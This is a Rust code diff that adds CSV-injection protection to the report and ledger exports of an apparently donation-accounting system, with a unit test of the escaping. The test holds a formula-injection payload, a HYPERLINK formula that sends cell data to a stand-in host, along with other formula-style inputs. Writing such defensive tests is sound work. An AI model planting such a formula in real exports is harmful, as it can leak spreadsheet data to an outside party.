@@ -372,65 +372,112 @@ impl Disclosure {
     /// (section `payout`).
     pub fn write_csv(&self, out: &mut dyn Write) -> Result<(), ReportError> {
         let mut w = csv::WriterBuilder::new().flexible(true).from_writer(out);
-        w.write_record([
-            "section",
-            "project",
-            "period_start",
-            "period_end",
-            "item",
-            "amount",
-            "currency",
-        ])?;
+        write_row(
+            &mut w,
+            [
+                "section",
+                "project",
+                "period_start",
+                "period_end",
+                "item",
+                "amount",
+                "currency",
+            ],
+        )?;
         for (label, v) in self.figure_rows() {
-            w.write_record([
+            write_row(
+                &mut w,
+                [
+                    "figure",
+                    self.project.as_str(),
+                    &self.period_start,
+                    &self.period_end,
+                    label,
+                    &format_minor(v),
+                    self.currency.as_str(),
+                ],
+            )?;
+        }
+        write_row(
+            &mut w,
+            [
                 "figure",
                 self.project.as_str(),
                 &self.period_start,
                 &self.period_end,
-                label,
-                &format_minor(v),
-                self.currency.as_str(),
-            ])?;
-        }
-        w.write_record([
-            "figure",
-            self.project.as_str(),
-            &self.period_start,
-            &self.period_end,
-            "donations 捐赠笔数",
-            &self.donation_count.to_string(),
-            "",
-        ])?;
-        w.write_record([
-            "section",
-            "payout_seq",
-            "requested_date",
-            "approved_date",
-            "paid_date",
-            "amount",
-            "currency",
-            "payee",
-            "purpose",
-            "status",
-            "document_sha256",
-        ])?;
+                "donations 捐赠笔数",
+                &self.donation_count.to_string(),
+                "",
+            ],
+        )?;
+        write_row(
+            &mut w,
+            [
+                "section",
+                "payout_seq",
+                "requested_date",
+                "approved_date",
+                "paid_date",
+                "amount",
+                "currency",
+                "payee",
+                "purpose",
+                "status",
+                "document_sha256",
+            ],
+        )?;
         for p in &self.payouts {
-            w.write_record([
-                "payout",
-                &p.payout_seq.to_string(),
-                &p.requested_date,
-                p.approved_date.as_deref().unwrap_or(""),
-                p.paid_date.as_deref().unwrap_or(""),
-                &format_minor(i128::from(p.amount_minor)),
-                p.currency.as_str(),
-                &p.payee,
-                &p.purpose,
-                p.status,
-                &p.document_sha256,
-            ])?;
+            write_row(
+                &mut w,
+                [
+                    "payout",
+                    &p.payout_seq.to_string(),
+                    &p.requested_date,
+                    p.approved_date.as_deref().unwrap_or(""),
+                    p.paid_date.as_deref().unwrap_or(""),
+                    &format_minor(i128::from(p.amount_minor)),
+                    p.currency.as_str(),
+                    &p.payee,
+                    &p.purpose,
+                    p.status,
+                    &p.document_sha256,
+                ],
+            )?;
         }
         w.flush()?;
         Ok(())
+    }
+}
+
+/// Writes one CSV row with every cell made safe to open in a spreadsheet ([`csv_cell`]).
+fn write_row<W: Write, I, F>(w: &mut csv::Writer<W>, cells: I) -> csv::Result<()>
+where
+    I: IntoIterator<Item = F>,
+    F: AsRef<str>,
+{
+    w.write_record(cells.into_iter().map(|c| csv_cell(c.as_ref()).into_owned()))
+}
+
+/// A CSV cell that a spreadsheet shows as text, never runs as a formula: text starting with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return (a project name, a payee, a purpose, a
+/// memo) gets a leading `'`, as OWASP advises against CSV injection. Numbers (`-12.50`) are
+/// left as they are, so amount columns stay numeric.
+pub fn csv_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = {
+        let digits = cell.strip_prefix('-').unwrap_or(cell);
+        let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
+        !whole.is_empty()
+            && !fraction.is_empty()
+            && whole
+                .bytes()
+                .chain(fraction.bytes())
+                .all(|b| b.is_ascii_digit())
+    };
+    if risky && !number {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
     }
 }
 
@@ -446,10 +493,13 @@ pub struct JournalCsv<W: Write> {
 impl<W: Write> JournalCsv<W> {
     pub fn new(out: W) -> Result<Self, ReportError> {
         let mut writer = csv::Writer::from_writer(out);
-        writer.write_record([
-            "seq", "date", "event", "memo", "account", "code", "title", "project", "debit",
-            "credit", "currency",
-        ])?;
+        write_row(
+            &mut writer,
+            [
+                "seq", "date", "event", "memo", "account", "code", "title", "project", "debit",
+                "credit", "currency",
+            ],
+        )?;
         Ok(JournalCsv {
             books: Books::default(),
             writer,
@@ -464,19 +514,22 @@ impl<W: Write> JournalCsv<W> {
                 Side::Debit => (format_minor(i128::from(p.amount_minor)), String::new()),
                 Side::Credit => (String::new(), format_minor(i128::from(p.amount_minor))),
             };
-            self.writer.write_record([
-                entry.seq.to_string().as_str(),
-                &china_date(entry.ts_ms),
-                entry.event_type,
-                &entry.memo,
-                &p.account.key(),
-                p.account.code(),
-                p.account.title(),
-                p.account.project().map(Id::as_str).unwrap_or(""),
-                &debit,
-                &credit,
-                p.currency.as_str(),
-            ])?;
+            write_row(
+                &mut self.writer,
+                [
+                    entry.seq.to_string().as_str(),
+                    &china_date(entry.ts_ms),
+                    entry.event_type,
+                    &entry.memo,
+                    &p.account.key(),
+                    p.account.code(),
+                    p.account.title(),
+                    p.account.project().map(Id::as_str).unwrap_or(""),
+                    &debit,
+                    &credit,
+                    p.currency.as_str(),
+                ],
+            )?;
             self.rows += 1;
         }
         Ok(entry)
@@ -999,7 +1052,7 @@ impl GrantsCsv {
     pub fn write(&self, publisher: &Publisher, out: &mut dyn Write) -> Result<u64, ReportError> {
         let state = &self.books.ledger;
         let mut w = csv::Writer::from_writer(out);
-        w.write_record(GRANTS_COLUMNS)?;
+        write_row(&mut w, GRANTS_COLUMNS)?;
         let mut rows = 0;
         for p in state.payouts.values() {
             if !matches!(
@@ -1025,21 +1078,24 @@ impl GrantsCsv {
             } else {
                 format!("{}-payee-{}", publisher.org_id, slug(&payee))
             };
-            w.write_record([
-                format!("{}-{}-{}", publisher.org_id, p.project, p.seq).as_str(),
-                &format!("{}: {}", project.name, purpose),
-                &purpose,
-                p.currency.as_str(),
-                &format_minor(i128::from(p.amount_minor)),
-                &award_date,
-                &disbursed,
-                &disbursed_date,
-                &recipient_id,
-                &masked_payee(project.kind, &payee),
-                &publisher.org_id,
-                &publisher.org_name,
-                project.name.as_str(),
-            ])?;
+            write_row(
+                &mut w,
+                [
+                    format!("{}-{}-{}", publisher.org_id, p.project, p.seq).as_str(),
+                    &format!("{}: {}", project.name, purpose),
+                    &purpose,
+                    p.currency.as_str(),
+                    &format_minor(i128::from(p.amount_minor)),
+                    &award_date,
+                    &disbursed,
+                    &disbursed_date,
+                    &recipient_id,
+                    &masked_payee(project.kind, &payee),
+                    &publisher.org_id,
+                    &publisher.org_name,
+                    project.name.as_str(),
+                ],
+            )?;
             rows += 1;
         }
         w.flush()?;
@@ -1058,20 +1114,23 @@ pub fn write_exceptions_csv(
     out: &mut dyn Write,
 ) -> Result<(), ReportError> {
     let mut w = csv::Writer::from_writer(out);
-    w.write_record([
-        "statement_seq",
-        "reason",
-        "line_no",
-        "entry_seq",
-        "reference",
-        "statement_amount",
-        "ledger_amount",
-        "difference",
-        "statement_fee",
-        "ledger_fee",
-        "resolved_seq",
-        "resolution",
-    ])?;
+    write_row(
+        &mut w,
+        [
+            "statement_seq",
+            "reason",
+            "line_no",
+            "entry_seq",
+            "reference",
+            "statement_amount",
+            "ledger_amount",
+            "difference",
+            "statement_fee",
+            "ledger_fee",
+            "resolved_seq",
+            "resolution",
+        ],
+    )?;
     let opt = |v: Option<u64>| v.map(|v| v.to_string()).unwrap_or_default();
     let money = |v: Option<u64>| v.map(|v| format_minor(i128::from(v))).unwrap_or_default();
     for e in &rec.exceptions {
@@ -1079,20 +1138,23 @@ pub fn write_exceptions_csv(
             (Some(s), Some(l)) => format_minor(i128::from(s) - i128::from(l)),
             _ => String::new(),
         };
-        w.write_record([
-            rec.statement_seq.to_string().as_str(),
-            e.reason.as_str(),
-            &opt(e.line_no),
-            &opt(e.entry_seq),
-            &e.reference,
-            &money(e.statement_amount_minor),
-            &money(e.ledger_amount_minor),
-            &difference,
-            &money(e.statement_fee_minor),
-            &money(e.ledger_fee_minor),
-            &opt(e.resolved_seq),
-            e.resolution.unwrap_or(""),
-        ])?;
+        write_row(
+            &mut w,
+            [
+                rec.statement_seq.to_string().as_str(),
+                e.reason.as_str(),
+                &opt(e.line_no),
+                &opt(e.entry_seq),
+                &e.reference,
+                &money(e.statement_amount_minor),
+                &money(e.ledger_amount_minor),
+                &difference,
+                &money(e.statement_fee_minor),
+                &money(e.ledger_fee_minor),
+                &opt(e.resolved_seq),
+                e.resolution.unwrap_or(""),
+            ],
+        )?;
     }
     w.flush()?;
     Ok(())
@@ -1104,15 +1166,64 @@ pub fn write_matched_csv(
     out: &mut dyn Write,
 ) -> Result<(), ReportError> {
     let mut w = csv::Writer::from_writer(out);
-    w.write_record(["statement_seq", "line_no", "entry_seq", "rule"])?;
+    write_row(&mut w, ["statement_seq", "line_no", "entry_seq", "rule"])?;
     for m in &rec.matched {
-        w.write_record([
-            rec.statement_seq.to_string(),
-            m.line_no.to_string(),
-            m.entry_seq.to_string(),
-            m.rule.as_str().to_owned(),
-        ])?;
+        write_row(
+            &mut w,
+            [
+                rec.statement_seq.to_string(),
+                m.line_no.to_string(),
+                m.entry_seq.to_string(),
+                m.rule.as_str().to_owned(),
+            ],
+        )?;
     }
     w.flush()?;
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Text that a spreadsheet would run as a formula is written as text; numbers and
+    /// ordinary text are written as they are.
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        for (cell, written) in [
+            (
+                "=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
+                "'=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
+            ),
+            ("+86 10 1234", "'+86 10 1234"),
+            ("-x", "'-x"),
+            ("-", "'-"),
+            ("@SUM(1,2)", "'@SUM(1,2)"),
+            ("\tcmd", "'\tcmd"),
+            ("\rcmd", "'\rcmd"),
+            ("-12.50", "-12.50"),
+            ("-3", "-3"),
+            ("-1.", "'-1."),
+            ("12.50", "12.50"),
+            ("星星课堂", "星星课堂"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(cell), written, "{cell:?}");
+        }
+        let mut out = Vec::new();
+        {
+            let mut w = csv::Writer::from_writer(&mut out);
+            write_row(&mut w, ["=1+2", "-5.00", "payee, \"quoted\""]).unwrap();
+            w.flush().unwrap();
+        }
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(out.as_slice());
+        let row = r.records().next().unwrap().unwrap();
+        assert_eq!(
+            row.iter().collect::<Vec<_>>(),
+            ["'=1+2", "-5.00", "payee, \"quoted\""]
+        );
+    }
 }
